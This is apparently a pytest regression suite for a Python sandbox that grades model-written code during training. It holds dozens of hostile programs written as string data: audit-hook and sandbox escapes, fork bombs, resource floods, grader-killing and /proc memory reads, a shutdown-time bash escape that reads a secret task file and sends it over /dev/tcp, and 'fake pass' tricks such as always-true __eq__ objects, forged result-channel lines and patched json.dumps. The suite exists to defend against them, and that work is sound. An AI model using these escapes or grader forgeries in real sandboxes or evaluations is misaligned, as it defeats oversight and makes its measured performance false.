"""The CODING sandbox against a hostile policy: every attack we know of, as a regression test.

Each attack must grade 0 (or 1 exactly when the program is honest and right), leave this process
alive, leave no file outside the sandbox's temporary directory and no process behind, and finish
within its time limit. ATTACKS is counted in the README (python tests/test_sandbox.py prints it).
"""
import base64
import contextlib
import json
import os
import pathlib
import pickle
import pwd
import resource
import shutil
import socket
import subprocess
import sys
import tempfile
import time
import zlib

import pytest


ROOT = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
sys.path.insert(0, ROOT)
from world import sandbox   # noqa: E402
from world import hub       # noqa: E402
from world import graders  # noqa: E402

MARK = "/tmp/sdpo_sandbox_escape"     # no attack may create it
KEEP = "/tmp/sdpo_sandbox_keep"       # no attack may delete it
TESTS = json.dumps({"fn_name": "f", "inputs": [[1], [2]], "outputs": [11, 12]})   # f(x) = x + 10
TOUCH = f"open('{MARK}', 'w').write('x')"
SECRET = f"/var/tmp/sdpo_sandbox_task_{os.getuid()}.json"   # stands for the trainer's task file: no program may read it
LISTENER = socket.socket()                  # no program may connect to it
LISTENER.bind(("127.0.0.1", 0))
LISTENER.listen(8)
PORT = LISTENER.getsockname()[1]
HARNESS_MARK = "batch = json.loads(sys.stdin.read())"   # in the command line of every harness process
RUNNER_MARK = "# sdpo sandbox: one program"            # in the command line of every program's process


def write_secret():
    """The stand-in task file, readable by every user (the jail, not the file's mode, must keep it out)."""
    with open(SECRET, "w") as f:
        f.write('{"outputs": [11, 12]}\n')
    os.chmod(SECRET, 0o644)


def at_shutdown(keep_alive, command):
    """A program that keeps an object alive (keep_alive: one line, `E()` the object); the object is freed at
    interpreter shutdown, after CPython has cleared the audit hooks, and its __del__ then execs a shell
    command: bash builtins only, which need no fork. os.execv is bound early: by then the os
    module's names are gone."""
    return ("import sys\nos = sys.modules['os']\nclass E:\n    def __del__(self, run=os.execv, keep=os.set_inheritable):\n"
            "        for fd in range(3, 16):   # the result channel stays open in bash: the grader waits for it\n"
            "            try:\n                keep(fd, True)\n            except OSError:\n                pass\n"
            f"        run('/bin/bash', ['bash', '-c', {command!r}])\n    def noop(self, *a):\n        pass\n"
            f"{keep_alive}\nf = lambda x: 0")


# name: program (every one is wrong: the right answer is lambda x: x + 10)
ATTACKS = {
    # --- escapes from the audit hook (1.) ---
    "widen the allowed set through the hook's frame":
        "import sys, os\nfr = sys._getframe(1)\n[v.update({'open', 'os.system'}) for v in fr.f_locals.values() "
        "if isinstance(v, set)]\nos.system('touch " + MARK + "')\nf = lambda x: 0",
    "replace the hook's code":
        "import sys\nh = sys._getframe(0).f_globals.get('hook') or sys._getframe(1).f_globals['hook']\n"
        "h.__code__ = (lambda e, a: None).__code__\n" + TOUCH + "\nf = lambda x: 0",
    "rewrite the hook's globals":
        "import sys\ng = sys._getframe(0).f_globals\ng['PermissionError'] = None\ng['IndexError'] = None\n"
        + TOUCH + "\nf = lambda x: 0",
    "the hook's closure cells":
        "import sys\nh = sys._getframe(0).f_globals['hook']\n"
        "[setattr(c, 'cell_contents', set()) for c in (h.__closure__ or ())]\n" + TOUCH + "\nf = lambda x: 0",
    "import through _frozen_importlib": "import _frozen_importlib as fi\npwd = fi._gcd_import('pwd')\n"
        "posix = fi._gcd_import('posix')\nposix.system('touch " + MARK + "')\nf = lambda x: 0",
    "builtin importer from __subclasses__":
        "imp = [c for c in object.__subclasses__() if c.__name__ == 'BuiltinImporter'][0]\n"
        "posix = imp.load_module('posix')\nposix.system('touch " + MARK + "')\nf = lambda x: 0",
    "os via _wrap_close globals":
        "f = lambda x: [c for c in ().__class__.__base__.__subclasses__() if c.__name__ == '_wrap_close'][0]"
        ".__init__.__globals__['system']('touch " + MARK + "')",
    "new audit hook": "import sys\nsys.addaudithook(lambda e, a: None)\n" + TOUCH + "\nf = lambda x: 0",
    "code object by hand": "import types\nf = lambda x: 0\nf.__code__ = f.__code__.replace(co_consts=(None, 11))",
    # --- harm to the machine ---
    "kill the grader": "import os\nos.kill(os.getppid(), 9)\nf = lambda x: 0",
    "kill the grader through posix": "import _frozen_importlib as fi\np = fi._gcd_import('posix')\n"
        "p.kill(p.getppid(), 9)\nf = lambda x: 0",
    "read another process's environment": "f = lambda x: open('/proc/1/environ').read()",
    "read the grader's memory": "import os\nf = lambda x: open(f'/proc/{os.getppid()}/mem', 'rb').read(10)",
    "create a file": TOUCH + "\nf = lambda x: 0",
    "create a file via posix.open": "import posix\nfd = posix.open('" + MARK + "', posix.O_CREAT | posix.O_WRONLY)\n"
                                    "f = lambda x: 0",
    "delete a file": f"import os\nos.remove('{KEEP}')\nf = lambda x: 0",
    "daemon with setsid": "import os\nif os.fork() == 0:\n    os.setsid()\n    import time\n    time.sleep(30)\n"
                          "f = lambda x: 0",
    "fork bomb": "import os\nwhile True:\n    os.fork()",
    "fork bomb through posix": "import _frozen_importlib as fi\np = fi._gcd_import('posix')\nwhile True:\n    p.fork()",
    "subprocess": "import subprocess\nsubprocess.run(['touch', '" + MARK + "'])\nf = lambda x: 0",
    "os.system by __import__": "__import__('os').system('touch " + MARK + "')\nf = lambda x: 0",
    "exec of encoded text": "import base64\nexec(base64.b64decode(b'aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ3RvdWNoIC90bXAvc2Rwb19zYW5kYm94X2VzY2FwZScp'))"
                            "\nf = lambda x: 0",
    "exec of a plain string": "exec(\"import os; os.system('touch " + MARK + "')\")\nf = lambda x: 0",
    "ctypes": "import ctypes\nctypes.CDLL(None).system(b'touch " + MARK + "')\nf = lambda x: 0",
    "socket": "import socket\nsocket.socket().connect(('127.0.0.1', 9))\nf = lambda x: 0",
    "environment secret": "import os\nf = lambda x: os.environ.get('SECRET_TOKEN')",
    "gc walk to the harness": "import gc\nf = lambda x: [o for o in gc.get_objects() if isinstance(o, dict) and 'outputs' in o]",
    "signal handler": "import signal\nsignal.signal(signal.SIGALRM, signal.SIG_IGN)\nwhile True: pass",
    # --- resources ---
    "infinite loop": "while True: pass",
    "infinite loop in f": "def f(x):\n    while True: pass",
    "sleep": "import time\ntime.sleep(60)\nf = lambda x: 0",
    "memory bomb": "x = bytearray(10**10)\nf = lambda x: x + 10",
    "slow memory growth": "a = []\nwhile True: a.append(' ' * 10**6)",
    "deep recursion crash": "import sys\nsys.setrecursionlimit(10**9)\ndef r(n): return r(n + 1)\nr(0)",
    "print flood": "print('x' * 10**8)\nf = lambda x: x + 10",
    "stderr flood": "import sys\nwhile True: sys.stderr.write('x' * 10**6)",
    "stdout fd flood": "import os\nwhile True: os.write(1, b'1\\n' * 10**5)",
    "result channel flood": "import os\nfor fd in range(3, 64):\n    try:\n        while True: os.write(fd, b'x' * 10**6)\n"
                            "    except OSError: pass\nf = lambda x: 0",
    "exit early": "import os\nos._exit(0)",
    "SystemExit": "raise SystemExit(0)",
    # --- fake passes (2.) ---
    "__eq__ always True": "class T:\n    def __eq__(self, o): return True\nf = lambda x: T()",
    "int subclass equal to everything": "class I(int):\n    def __eq__(self, o): return True\n"
                                        "    def __ne__(self, o): return False\nf = lambda x: I(0)",
    "str subclass": "class S(str):\n    def __eq__(self, o): return True\nf = lambda x: S('')",
    "bool for a number": "f = lambda x: True",
    "write 1 to every descriptor": "import os\nfor fd in range(3, 64):\n    try: os.write(fd, b'1\\n')\n"
                                   "    except OSError: pass\nf = lambda x: 0",
    "claim outputs on the channel and exit": "import os\nfor fd in range(3, 64):\n    try: os.write(fd, b'[[\"ok\", 1], [\"ok\", 1]]\\n')\n"
                                             "    except OSError: pass\nos._exit(0)",
    "edit the harness's results": "import sys\nfr = sys._getframe(0)\nout = fr.f_globals['outputs']\n"
                                  "f = lambda x: out.append(['ok', 1]) or 0",
    "read the expected outputs from the harness": "import sys\nj = sys._getframe(0).f_globals['job']\n"
                                                  "f = lambda x: (j.get('outputs') or j.get('tests', {}).get('outputs') or [0])[0]",
    "patch json.dumps in the harness": "import json\njson.dumps = lambda *a, **k: '[[\"ok\", true], [\"ok\", true]]'\n"
                                       "f = lambda x: 0",
    "NaN": "f = lambda x: float('nan')",
}
HONEST = {   # must still score 1
    "lambda": "lambda x: x + 10",
    "def with imports": "import math, collections\ndef f(x):\n    return collections.Counter([x])[x] * 10 + math.floor(x)",
    "float result": "f = lambda x: x + 10.0",
    "fenced in a response": "f = lambda x: (x * 2 + 20) // 2",
}
# attacks that beat the sandbox without an OS jail (each checked against the commit before it)
ATTACKS.update({
    "shutdown escape through the harness's globals":
        at_shutdown("sys.modules['__main__'].keep = E()", f": > {MARK}"),
    "shutdown escape through a global of the program": at_shutdown("keep = E()", f": > {MARK}"),
    "shutdown escape through codecs.register":
        at_shutdown("sys.modules['codecs'].register(E().noop)", f": > {MARK}"),
    "shutdown escape through os.register_at_fork":
        at_shutdown("os.register_at_fork(before=E().noop)", f": > {MARK}"),
    "shutdown escape: connect to a listener on 127.0.0.1":
        at_shutdown("sys.modules['__main__'].keep = E()", f"echo escaped > /dev/tcp/127.0.0.1/{PORT}"),
    "shutdown escape: read the task file":
        at_shutdown("sys.modules['__main__'].keep = E()", f"read -r task < {SECRET} && echo \"$task\" > /dev/tcp/127.0.0.1/{PORT} && : > {MARK}"),
    "mkfifo": f"import sys\nsys.modules['os'].mkfifo('{MARK}')\nf = lambda x: 0",
    "mknod": f"import sys\nsys.modules['os'].mknod('{MARK}', 0o100600)\nf = lambda x: 0",
    "a built-in module loaded by hand reads the system":   # (right only if /etc/passwd could be read)
        "import sys\nfi, imp = sys.modules['_frozen_importlib'], sys.modules['_imp']\n"
        "pwd = imp.create_builtin(fi.ModuleSpec('pwd', fi.BuiltinImporter, origin='built-in'))\n"
        "imp.exec_builtin(pwd)\nn = len(pwd.getpwall())\nf = lambda x: x + 10 if n else 0",
})

ATTACKS.update({   # what a program of a batch reaches without leaving its own process
    "copy a sibling's program from the harness's globals":   # (right only if another program's code is in reach)
        "import sys\nfr, codes = sys._getframe(0), []\nwhile fr is not None:\n    b = fr.f_globals.get('batch')\n"
        "    if isinstance(b, dict):\n        codes += [j.get('code') or j.get('run', {}).get('code') for j in b.get('jobs', [])]\n"
        "    fr = fr.f_back\nns = {}\nfor c in codes:\n    if c and 'codes' not in c:\n        exec(c, ns)\n"
        "f = ns.get('f', lambda x: 0)",
    "ctypes in reach (the hook's code can be overwritten through it)":   # (right only if ctypes is reachable)
        "import sys\nreach = [m for m in ('ctypes', '_ctypes') if m in sys.modules]\n"
        "reach += [c for c in object.__subclasses__() if c.__module__ in ('_ctypes', 'ctypes')]\n"
        "f = lambda x: x + 10 if reach else 0",
})


JAIL_ONLY = [name for name in ATTACKS if name.startswith(("shutdown", "mk", "a built-in"))]   # the 9 of the second round


def sandbox_processes():
    """The pids of harness interpreters and of any process of the sandbox's uids, now."""
    out = subprocess.run(["ps", "-eo", "uid=,pid=,args="], capture_output=True, text=True).stdout.split("\n")
    return {int(line.split()[1]) for line in out if line.split() and (
        HARNESS_MARK in line or RUNNER_MARK in line or sandbox.UID_BASE <= int(line.split()[0]) < sandbox.UID_BASE + 1000)}


def processes_left(before):
    """Sandbox processes that outlived their run: new since `before` and still there 2.5 s later (longer
    than any program's wall limit, so another grader's programs at work on the machine do not count)."""
    now = sandbox_processes() - before
    time.sleep(2.5)
    return now & sandbox_processes()


def nothing_reached_the_listener():
    LISTENER.setblocking(False)
    try:
        LISTENER.accept()
        return False
    except BlockingIOError:
        return True


def test_every_attack_grades_zero_and_leaves_nothing(monkeypatch):
    monkeypatch.setenv("SECRET_TOKEN", "hunter2")
    open(KEEP, "w").close()
    write_secret()
    if os.path.exists(MARK):
        os.remove(MARK)
    rss0 = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    before = sandbox_processes()
    t0 = time.time()
    programs = list(ATTACKS.values()) + list(HONEST.values())
    scores = sandbox.run_programs([(p, TESTS) for p in programs])
    took = time.time() - t0
    failed = [name for name, s in zip(ATTACKS, scores) if s != 0.0]
    assert not failed, f"attacks that scored: {failed}"
    assert scores[len(ATTACKS):] == [1.0] * len(HONEST), dict(zip(HONEST, scores[len(ATTACKS):]))
    assert not os.path.exists(MARK) and os.path.exists(KEEP)
    assert nothing_reached_the_listener()
    assert not processes_left(before)
    # each program has a 2 s wall limit, two run at once: the whole suite within its limits
    assert took < len(programs) * sandbox.LIMITS["wall"] / sandbox.PARALLEL + 10
    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - rss0 < 200_000   # KiB: no flood reached us


def test_one_program_cannot_decide_its_neighbours_grades():
    """grade_many, the path training uses: 1s and 0s written anywhere change no other program's grade."""
    rec = {"kind": "code", "code_format": "lambda", "tests": TESTS}   # (the built-in world's bare programs)
    writers = ["import os\nfor fd in range(0, 64):\n    try: os.write(fd, b'1\\n' * 64)\n    except OSError: pass\nf = lambda x: 0",
               "import os\nfor fd in range(0, 64):\n    try: os.write(fd, b'0\\n' * 64)\n    except OSError: pass\nf = lambda x: 0"]
    responses = [writers[0]] + ["lambda x: x"] * 7 + [writers[1]] + [f"lambda x: x + {10 + 0 * i}" for i in range(7)]
    responses[9:] = [f"f = lambda x: x + {10}  # {i}" for i in range(7)]   # 7 distinct right programs
    assert graders.grade_many([rec] * len(responses), responses) == [0.0] * 9 + [1.0] * 7


def test_a_hung_batch_is_bounded_and_grades_zero():
    t0 = time.time()
    assert sandbox.run_programs([("while True: pass", TESTS)] * 3 + [("lambda x: x + 10", TESTS)]) == [0.0] * 3 + [1.0]
    assert time.time() - t0 < 2 * sandbox.LIMITS["wall"] + 3   # identical programs run once


def test_values_compare_in_the_parent():
    same = sandbox.same_value
    assert same(2, 2.0) and same([1, [2, 3]], (1, (2, 3))) and same({"a": 1}, {"a": 1.0})
    assert not same(True, 1) and not same(1, True) and not same("1", 1) and not same([1], [1, 2])
    assert not same(None, 0) and same(None, None) and not same({"a": 1}, {"b": 1})
    tests = {"fn_name": "f", "outputs": [3, 4]}
    assert sandbox.passes([["ok", 3], ["ok", 4]], tests)
    assert not sandbox.passes([["ok", 3], ["error"]], tests) and not sandbox.passes([["ok", 3]], tests)
    assert not sandbox.passes("1", tests) and not sandbox.passes([["ok", 3, 0], ["ok", 4]], tests)
    assert sandbox.passes([["ok", "6\n"]], {"outputs": ["6"]})


def test_malformed_tests_grade_zero():
    for tests in ("", "{}", "[]", "not json", json.dumps({"inputs": [[1]], "outputs": []}),
                  json.dumps({"fn_name": "f", "inputs": [], "outputs": []}), None, 7):
        assert sandbox.run_programs([("lambda x: x", tests)]) == [0.0]


if __name__ == "__main__":
    print(f"{len(ATTACKS)} attacks, {len(HONEST)} honest programs")


def test_the_suite_can_fail(monkeypatch):
    """Without the audit hook (layer 4) and without the jail (layer 0) a program does create the file:
    the checks above can see an escape. With the jail and no audit hook, the file stays inside the jail."""
    if os.path.exists(MARK):
        os.remove(MARK)
    monkeypatch.setattr(sandbox, "RUNNER", sandbox.RUNNER.replace("sys.addaudithook(hook)", "pass"))
    writer = [(f"import io\nio.open('{MARK}', 'w')\nf = lambda x: 0", TESTS)]
    sandbox.run_programs(writer)
    assert not os.path.exists(MARK)          # layer 0 alone holds it
    monkeypatch.setattr(sandbox, "JAILS", ())
    monkeypatch.setattr(sandbox, "ALLOW_UNJAILED", True)
    sandbox.run_programs(writer)
    assert os.path.exists(MARK)              # no layer left: it escapes, and the tests see it
    os.remove(MARK)


def test_the_readme_counts_the_attacks():
    readme = open(os.path.join(ROOT, "README.md")).read()
    assert f"**{len(ATTACKS)} tried, {len(ATTACKS)} held, 0 failed**; {len(HONEST)} honest programs" in readme


# ---- the second round: the jail, assert tests decided here, one program can only zero itself ----
ASSERT_TESTS = json.dumps({"testtype": "code", "outputs": [None, None],
                           "inputs": ["assert add(1, 2) == 3", "assert add(-1, 1) == 0\nassert sorted([add(2, 2), 1]) == [1, 4]"]})
EQ_TESTS = json.dumps({"testtype": "code", "outputs": [None, None], "inputs": ["assert add(1, 2) == 3", "assert add(-1, 1) == 0"]})
RIGHT_ADD = "def add(a, b):\n    return a + b"


def test_assert_tests_are_decided_here():
    """The program gets only the calls (add(1, 2), ...), never the asserts or their expected values."""
    forged_eq = "class T:\n    def __eq__(self, other): return True\n    __hash__ = None\ndef add(a, b):\n    return T()"
    forged_line = ("import sys\nos = sys.modules['os']\nfor fd in range(3, 64):\n"
                   "    try: os.write(fd, b'[\"ok\", null]\\n' * 4)\n    except OSError: pass\nos._exit(0)")
    patched_builtins = "import sys\nsys.modules['builtins'].sorted = lambda *a: [1, 4]\ndef add(a, b):\n    return 0"
    scores = sandbox.run_programs([(RIGHT_ADD, ASSERT_TESTS), (forged_eq, EQ_TESTS), (forged_line, EQ_TESTS),
                                   (patched_builtins, ASSERT_TESTS), (RIGHT_ADD, EQ_TESTS)])
    assert scores == [1.0, 0.0, 0.0, 0.0, 1.0]
    t = sandbox.parse_tests(ASSERT_TESTS)
    # the entry point's calls as values: no "3", no "== 0", no source
    assert sandbox.program_inputs(t) == [[[False, [1, 2], {}]], [[False, [-1, 1], {}], [False, [2, 2], {}]]]


@pytest.mark.parametrize("src, values, holds", [
    ("assert f(1) == 3", [3], True), ("assert f(1) == 3", [3.0], True), ("assert f(1) == 3", ["3"], False),
    ("assert f(1) == (1, 2)", [[1, 2]], True), ("assert f(1) == {1, 2}", [{"$set": [2, 1]}], True),
    ("assert f(1) == {1: 'a'}", [{"$dict": [[1, "a"]]}], True), ("assert f(1) == {'1': 'a'}", [{"$dict": [[1, "a"]]}], False),
    ("assert abs(f(1) - 0.5) < 1e-6", [0.5000001], True), ("assert abs(f(1) - 0.5) < 1e-6", [0.6], False),
    ("assert not f(2)", [False], True), ("assert f(2) is None", [None], True), ("assert f(2) is None", [0], False),
    ("assert isinstance(f(1), int) and f(2) > 0", [5, 1], True), ("assert isinstance(f(1), str)", [5], False),
    ("assert len(Solution().g([1, 2])) == 2", [[7, 8]], True), ("assert f(1) in [1, 2, 3]", [2], True),
    ("assert f(1) in {(1, 2), (3, 4)}", [[3, 4]], True), ("assert f(1) not in {'a': 1}", ["a"], False),
    ("assert f(1) * 10 == 30", [3], True), ("assert f(1) * 10 == 30", ["3"], False),   # (no string repetition)
    ("assert f(1) == 3", [], False), ("assert f(1) == 3", None, False),
])
def test_assert_checks_against_python(src, values, holds):
    asserts = sandbox.parse_asserts(src)
    assert sandbox.asserts_hold(asserts, values) is holds


MATH_TESTS = json.dumps({"testtype": "code", "outputs": [None, None],
                         "inputs": ["assert math.isclose(half(1), 0.5, rel_tol=1e-9)", "assert half(5) == math.floor(2.5)"]})


def test_checks_outside_the_program_are_judged_here():
    """`math.isclose` and `math.floor` in an assert are evaluated here, so a program that patches
    math passes nothing (it used to get the whole check, expected value included, and decide it)."""
    right = "def half(x):\n    return x / 2 if x == 1 else 2"
    patched = ("import math\nmath.isclose = lambda *a, **k: True\nmath.floor = lambda x: 7\n"
               "def half(x):\n    return 7")
    assert sandbox.run_programs([(right, MATH_TESTS), (patched, MATH_TESTS)]) == [1.0, 0.0]
    t = sandbox.parse_tests(MATH_TESTS)
    assert sandbox.program_inputs(t) == [[[False, [1], {}]], [[False, [5], {}]]]   # no 0.5, no math
    for test in ("assert print(f(1))", "assert f(1) == x", "assert f(1) == os.getcwd()", "assert map(f, [1])",
                 "assert f(1) == math.factorial(3)", "assert f(1) == (lambda: 3)()"):
        assert sandbox.parse_tests(json.dumps({"testtype": "code", "inputs": [test], "outputs": [None]})) is None, test
    for test in ("assert Solution().g(1)[0] == 2", "assert f(1).real == 1", "assert sorted(f(1)) == list(range(3))",
                 "assert math.isclose(f(1), math.pi)"):
        assert sandbox.parse_tests(json.dumps({"testtype": "code", "inputs": [test], "outputs": [None]})), test


def test_judging_is_linear_on_the_worst_inputs_the_caps_allow():
    """The channel's nesting check on an unterminated string of escaped quotes (was quadratic:
    32 KB took 4 s), and sets and dicts of integers that share one hash (790 KB took 20 s), from an
    assert and from a program, each at the 1 MB cap. Each worst input is timed against an ordinary one
    of the same size (a ratio, so a loaded machine does not decide it), at 128 KB, where the quadratic
    code took a minute on the nesting check; at the 1 MB cap each takes 0.1–0.8 s here alone
    (docs/RELIABILITY.md)."""
    P = 2**61 - 1

    def ints(step):   # about 128 KB of comma-separated integers
        return ", ".join(str(k * step) for k in range(1, 8000))[:128_000].rsplit(",", 1)[0]

    def assert_set(text):
        return lambda: sandbox.asserts_hold(sandbox.parse_asserts(f"assert f(1) == {{{text}}}"), [[]])

    def program_set(text):
        return lambda: sandbox.asserts_hold(sandbox.parse_asserts("assert f(1) == {1}"), [{"$set": json.loads(f"[{text}]")}])

    def program_dict(text):
        return lambda: sandbox.asserts_hold(sandbox.parse_asserts("assert f(1) == {1: 2}"),
                                            [{"$dict": [[k, 0] for k in json.loads(f"[{text}]")]}])
    def nested(depth, payload):   # a set holding a dict whose value is a set holding a dict … `depth` levels down
        v = {"$set": payload}
        for _ in range(depth):
            v = {"$set": [{"$dict": [[1, v]]}]}
        return lambda: sandbox.asserts_hold(sandbox.parse_asserts("assert f(1) == {1}"), [v])
    colliding, ordinary = ints(P), ints(1).ljust(len(ints(P)), " ")
    payload = json.loads(f"[{ints(1)}]")
    cases = {   # name: (the worst input, an ordinary one of the same size)
        "nesting": (lambda: sandbox.nesting('"' + '\\"' * 64_000), lambda: sandbox.nesting('"' + "ab" * 64_000 + '"')),
        "assert set literal": (assert_set(colliding), assert_set(ordinary)),
        "program's set": (program_set(colliding), program_set(ordinary)),
        "program's dict": (program_dict(colliding), program_dict(ordinary)),
        # round four: a set nested 30 deep was rebuilt at every level, a dict sorted by repr at every level
        "nested 30 deep": (nested(30, payload), nested(1, payload)),
    }
    for name, (worst, usual) in cases.items():
        times = []
        for case in (worst, usual):   # the fastest of 3 (a loaded machine's pauses only ever add time)
            best = float("inf")
            for _ in range(3):
                t = time.perf_counter()
                assert case() in (0, False), name
                best = min(best, time.perf_counter() - t)
            times.append(best)
        assert times[0] < 4 * times[1] + 0.1, (name, times)   # (quadratic: 790 KB cost 20 s, 100× the ordinary)
    many = list(range(0, 200_000 * P, P))[:200_000]   # (distinct items with distinct hashes are not refused)
    assert sandbox.safe_set(list(range(100_000))) == frozenset(range(100_000))
    with pytest.raises(ValueError):
        sandbox.safe_set(many)


def test_assert_tests_other_than_asserts_are_unusable():
    for test in ("x = add(1, 2)\nassert x == 3", "import os", "assert add(1,", 7):
        assert sandbox.parse_tests({"testtype": "code", "inputs": [test], "outputs": [None]}) is None


def test_deep_nesting_zeroes_only_its_own_program():
    """100,000 '[' on the channel once stopped the decoder (RecursionError) and zeroed the whole batch."""
    deep = ("import sys\nos = sys.modules['os']\nfor fd in range(3, 64):\n    try: os.write(fd, b'[' * 100000 + b'\\n')\n"
            "    except OSError: pass\nos._exit(0)")
    right = [f"f = lambda x: x + 10  # {i}" for i in range(7)]
    assert sandbox.run_programs([(deep, TESTS)] + [(r, TESTS) for r in right]) == [0.0] + [1.0] * 7
    assert sandbox.read_line("[" * 100000) == ["error", "output nested too deep"]
    assert sandbox.read_line('["ok", "[[[[[[[["]') == ["ok", "[[[[[[[["]   # brackets in strings do not count


def test_a_zip_bomb_of_private_tests_is_refused():
    """0.41 MB of pickled LiveCodeBench tests once became a 315 MB string: decompression is capped."""
    bomb = base64.b64encode(zlib.compress(pickle.dumps(json.dumps("x" * 4 * 2**20)), 9))
    assert len(bomb) < 2**16
    with pytest.raises(ValueError, match="more than 1 MB"):
        hub.lcb_private_tests(bomb, max_bytes=2**20)
    assert hub.LCB_MAX_BYTES < 315 * 10**6
    small = base64.b64encode(zlib.compress(pickle.dumps(json.dumps([{"input": "1", "output": "2", "testtype": "stdin"}]))))
    assert hub.lcb_private_tests(small)[0]["output"] == "2"


GRADER = """
import json, sys
sys.path.insert(0, {root!r})
from world import sandbox
sandbox.JAILS = {jails!r}
sandbox.ALLOW_UNJAILED = True
print(json.dumps(sandbox.run_programs([(sys.argv[1], {tests!r})])), flush=True)
"""
KILLER = ("import sys\nposix, sig = sys.modules['posix'], sys.modules['_signal']\n"
          "for pid in [posix.getppid()] + list(range(2, 40000)):\n    if pid != posix.getpid():\n"
          "        try:\n            fd = posix.pidfd_open(pid)\n        except OSError:\n            continue\n"
          "        try:\n            sig.pidfd_send_signal(fd, 9)\n        except OSError:\n            pass\n"
          "        posix.close(fd)\nf = lambda x: 0")
SLOW_RIGHT = "import time\ndef f(x):\n    t = time.time()\n    while time.time() - t < 0.6:\n        pass\n    return x + 10"


def two_graders_at_once(jails, python=sys.executable, root=ROOT, user=None):
    """Grader B runs a slow right program while grader A runs one that sends SIGKILL (through pidfds, which
    the audit hook does not see) to its parent and to every pid it can. Returns (A's output, B's output)."""
    script = GRADER.format(root=root, jails=tuple(jails), tests=TESTS)
    run = (["runuser", "-u", user, "--"] if user else []) + [python, "-c", script]
    b = subprocess.Popen(run + [SLOW_RIGHT], stdout=subprocess.PIPE, text=True)
    time.sleep(0.3)
    a = subprocess.run(run + [KILLER], capture_output=True, text=True, timeout=60)
    return a.stdout.strip(), b.communicate(timeout=60)[0].strip()


@pytest.mark.parametrize("kind", sandbox.JAILS)
def test_each_jail_holds_the_new_attacks_and_passes_honest_programs(kind, monkeypatch):
    if sandbox.first_working_jail((kind,)) is None:
        pytest.skip(f"no working {kind} here")
    monkeypatch.setattr(sandbox, "JAILS", (kind,))
    write_secret()
    if os.path.exists(MARK):
        os.remove(MARK)
    new = JAIL_ONLY
    before = sandbox_processes()
    scores = sandbox.run_programs([(ATTACKS[n], TESTS) for n in new] + [(p, TESTS) for p in HONEST.values()]
                                  + [(RIGHT_ADD, ASSERT_TESTS)])
    assert scores == [0.0] * len(new) + [1.0] * (len(HONEST) + 1), dict(zip(new, scores))
    assert not os.path.exists(MARK) and nothing_reached_the_listener() and not processes_left(before)
    a, b = two_graders_at_once((kind,))
    assert (a, b) == ("[0.0]", "[1.0]")   # the killer reached neither its grader nor the other grader's program


def test_without_a_jail_coding_is_refused_unless_unsafe(monkeypatch):
    monkeypatch.setattr(sandbox, "JAILS", ())
    with pytest.raises(sandbox.NoJail, match="bubblewrap"):
        sandbox.run_programs([(RIGHT_ADD, ASSERT_TESTS)])
    assert sandbox.run_programs([(RIGHT_ADD, "not json")]) == [0.0]   # (nothing to run: nothing refused)
    monkeypatch.setattr(sandbox, "ALLOW_UNJAILED", True)
    assert sandbox.run_programs([(RIGHT_ADD, ASSERT_TESTS)]) == [1.0]
    out = subprocess.run([sys.executable, "-c", "import sys; sys.path.insert(0, %r); from world import sandbox; import continual; "
                          "sandbox.JAILS = (); continual.main(['--stages', 'coding', '--steps', '1'])" % ROOT],
                         capture_output=True, text=True, cwd=tempfile.mkdtemp())
    assert out.returncode == 2 and "error: no OS jail" in out.stderr and "Traceback" not in out.stderr


KILL_ALL = ("import sys\nos = sys.modules['os']\nfor pid in [os.getppid()] + list(range(1, 300)):\n    if pid != os.getpid():\n"
            "        try:\n            os.kill(pid, 9)\n        except OSError:\n            pass\nf = lambda x: 0")
REFUSED = ("import sys\nos = sys.modules['os']\nrefused = 0\nfor call in (os.fork, lambda: os.execv('/bin/true', ['true']), lambda: os.kill(os.getppid(), 0)):\n"
           "    try:\n        call()\n    except PermissionError:\n        refused += 1\nf = lambda x: x + 10 if refused == 3 else 0")


def test_programs_sharing_a_jail_cannot_reach_each_other(monkeypatch):
    """Layer 0b alone: with the audit hook removed, a program that shares the jail can neither signal the
    jail's interpreter or another program nor start a process or a program. Without the filter as well,
    the same killer does take its neighbour's grade: the test can fail."""
    if not sandbox.jail() or not sandbox.shares_jail(sandbox.jail()):
        pytest.skip("programs do not share a jail here")
    monkeypatch.setattr(sandbox, "RUNNER", sandbox.RUNNER.replace("sys.addaudithook(hook)", "pass"))
    assert sandbox.run_programs([(KILL_ALL, TESTS), (SLOW_RIGHT, TESTS), (REFUSED, TESTS)]) == [0.0, 1.0, 1.0]
    monkeypatch.setattr(sandbox, "seccomp_filter", lambda: None)
    assert sandbox.run_programs([(KILL_ALL, TESTS), (SLOW_RIGHT, TESTS)]) == [0.0, 0.0]


# with the audit hook removed, what one program of a batch tries against the others and the jail.
# Each gets at its siblings through a call the seccomp filter now refuses; run without the filter, each works.
PRELUDE = "import sys\nimp = sys.modules['builtins'].__import__\nos = imp('os')\n"
SETOWN_KILLER = (PRELUDE + "fcntl = imp('fcntl')\nr, w = os.pipe()\nos.set_blocking(r, False)\n"
                 "fcntl.fcntl(r, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK)\n"
                 "for pid in range(1, 300):\n    if pid != os.getpid():\n        try:\n"
                 "            fcntl.fcntl(r, fcntl.F_SETOWN, pid)\n            os.write(w, b'x')\n            os.read(r, 1)\n"
                 "        except OSError:\n            pass\nf = lambda x: 0")
PRLIMIT_CUTTER = (PRELUDE + "resource = imp('resource')\nfor pid in range(1, 300):\n    if pid != os.getpid():\n"
                  "        for lim in (resource.RLIMIT_NOFILE, resource.RLIMIT_AS):\n            try:\n"
                  "                resource.prlimit(pid, lim, (1, 1))\n            except (OSError, ValueError):\n"
                  "                pass\nf = lambda x: 0")
STARVER = (PRELUDE + "time = imp('time')\nfor pid in range(1, 300):\n    try:\n        os.sched_setaffinity(pid, {0})\n"
           "        if pid != os.getpid():\n            os.sched_setscheduler(pid, os.SCHED_IDLE, os.sched_param(0))\n"
           "    except OSError:\n        pass\nt = time.time()\nwhile time.time() - t < 1.9:\n    pass\nf = lambda x: 0")
RESCHEDULES = (PRELUDE + "done = []\nfor pid in range(1, 300):\n    if pid != os.getpid():\n        try:\n"
               "            os.sched_setscheduler(pid, os.SCHED_IDLE, os.sched_param(0))\n            done.append(pid)\n"
               "        except OSError:\n            pass\nf = lambda x: x + 10 if done else 0")   # (right only if it could)
KEY_NAME = b"sdpo_sandbox_secret"
# (each right only if the jail let it through)
